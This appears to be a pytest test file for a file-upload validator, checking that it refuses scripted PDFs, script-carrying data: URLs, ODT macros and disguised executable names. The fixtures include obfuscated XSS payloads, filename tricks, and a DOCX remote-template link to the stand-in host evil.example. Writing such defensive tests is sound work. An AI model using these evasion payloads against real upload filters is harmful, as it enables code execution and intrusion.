"""Active content hidden where the first checks did not look: bookmark and XFA scripts in
PDFs, pages inside ``data:`` URLs, remote templates in DOCX, OpenDocument scripts, and names
that show (or are saved as) a program's."""

from __future__ import annotations

import base64
import zipfile
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tests.core import corpus
from toolbox_uploader.core.validation import ValidationReport, Verdict, validate_file
from toolbox_uploader.core.validation.names import storage_name


def codes(report: ValidationReport) -> list[str]:
    return [r.code for r in report.reasons]


def _pdf_with(path: Path, extend: object) -> Path:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    extend(writer)  # type: ignore[operator]
    writer.write(path)
    return path


def test_javascript_behind_a_bookmark_is_refused(tmp_path: Path) -> None:
    def bookmark(writer: PdfWriter) -> None:
        item = writer.add_outline_item(title="Chapter 1", page_number=0)
        script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                   NameObject("/JS"): TextStringObject("app.alert(1)")})
        item.get_object()[NameObject("/A")] = writer._add_object(script)

    path = _pdf_with(tmp_path / "chapters.pdf", bookmark)
    assert codes(validate_file(path, "student_submission")) == ["pdf_javascript"]


@pytest.mark.parametrize("as_array", [False, True])
def test_an_xfa_form_script_is_refused(as_array: bool, tmp_path: Path) -> None:
    def xfa_form(writer: PdfWriter) -> None:
        template = DecodedStreamObject()
        template.set_data(b'<template><subform><event activity="initialize">'
                          b'<script contentType="application/x-javascript">app.alert(1)'
                          b"</script></event></subform></template>")
        packet = writer._add_object(template)
        xfa = ArrayObject([TextStringObject("template"), packet]) if as_array else packet
        form = DictionaryObject({NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa})
        writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)

    path = _pdf_with(tmp_path / "form.pdf", xfa_form)
    assert codes(validate_file(path, "assessment")) == ["pdf_javascript"]


def test_a_pdf_with_plain_bookmarks_passes(tmp_path: Path) -> None:
    def bookmarks(writer: PdfWriter) -> None:
        for n in range(3):
            writer.add_outline_item(title=f"Part {n}", page_number=0)

    path = _pdf_with(tmp_path / "book.pdf", bookmarks)
    assert validate_file(path, "student_submission").verdict is Verdict.ACCEPT


_SCRIPT_B64 = base64.b64encode(b"<script>alert(1)</script>").decode()
_SVG_B64 = base64.b64encode(b"<svg><script>x()</script></svg>").decode()


@pytest.mark.parametrize(
    "snippet",
    [
        '<iframe src="data:text/html,<img src=x onerror=alert(1)>"></iframe>',
        f'<iframe src="data:text/html;base64,{_SCRIPT_B64}"></iframe>',
        f'<object data="DATA:image/svg+xml;charset=utf-8;base64,{_SVG_B64}"></object>',
        '<embed src="data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E">',
        f'<iframe src="da\tta:text/html;base64,{_SCRIPT_B64[:9]}\n{_SCRIPT_B64[9:]}"></iframe>',
    ],
)
def test_a_script_in_a_data_url_page_is_found(snippet: str, tmp_path: Path) -> None:
    page = corpus.make_html(tmp_path, "lesson.html", f"<html><body>{snippet}</body></html>")
    assert codes(validate_file(page, "educational_content")) == ["script_content"]


def test_harmless_data_urls_pass(tmp_path: Path) -> None:
    body = ('<html><body><img src="data:image/png;base64,iVBORw0KGgo=">'
            '<iframe src="data:text/html,<p>Hello</p>"></iframe></body></html>')
    page = corpus.make_html(tmp_path, "lesson.html", body)
    assert validate_file(page, "educational_content").verdict is Verdict.ACCEPT


_SETTINGS_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attached&#84;emplate" '
    "Target='http://evil.example/t.dotm' TargetMode=\"External\"/></Relationships>"
)


def _docx_plus(tmp_path: Path, name: str, extra: dict[str, str]) -> Path:
    plain = corpus.make_ooxml(tmp_path, "docx", "plain.docx")
    path = tmp_path / name
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as out:
        for info in source.infolist():
            out.writestr(info, source.read(info))
        for member, text in extra.items():
            out.writestr(member, text)
    return path


def test_a_remote_template_is_refused_for_students_and_noted_for_staff(tmp_path: Path) -> None:
    path = _docx_plus(tmp_path, "essay.docx", {"word/_rels/settings.xml.rels": _SETTINGS_RELS})
    assert codes(validate_file(path, "student_submission")) == ["remote_template"]
    staff = validate_file(path, "administrative")
    assert staff.verdict is Verdict.WARN
    assert [w.code for w in staff.warnings] == ["remote_template"]


def test_external_hyperlinks_in_a_docx_are_fine(tmp_path: Path) -> None:
    rels = _SETTINGS_RELS.replace("attached&#84;emplate", "hyperlink")
    path = _docx_plus(tmp_path, "links.docx", {"word/_rels/document.xml.rels": rels})
    assert validate_file(path, "student_submission").verdict is Verdict.ACCEPT


def test_opendocument_with_embedded_scripts_is_a_macro_document(tmp_path: Path) -> None:
    path = tmp_path / "plan.odt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("Scripts/python/run.py", "import os\n")
    assert codes(validate_file(path, "student_submission")) == ["macro_document"]


@pytest.mark.parametrize(
    "name",
    ["report.exe\u200b", "report.ex\u200be", "photo.exe\ufeff", "report.exe::$DATA",
     "report.exe:hidden", "homework.js", "Lesson.url", "start.desktop", "settings.reg"],
)
def test_names_that_show_or_become_programs_are_refused(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text("hello\n", encoding="utf-8")
    assert "executable_extension" in codes(validate_file(path, "temporary"))


@pytest.mark.parametrize("name", ["COM\u00b9.txt", "lpt0", "CONOUT$.txt"])
def test_every_windows_device_name_gets_a_storage_name(name: str) -> None:
    assert storage_name(name) == f"_{name}"
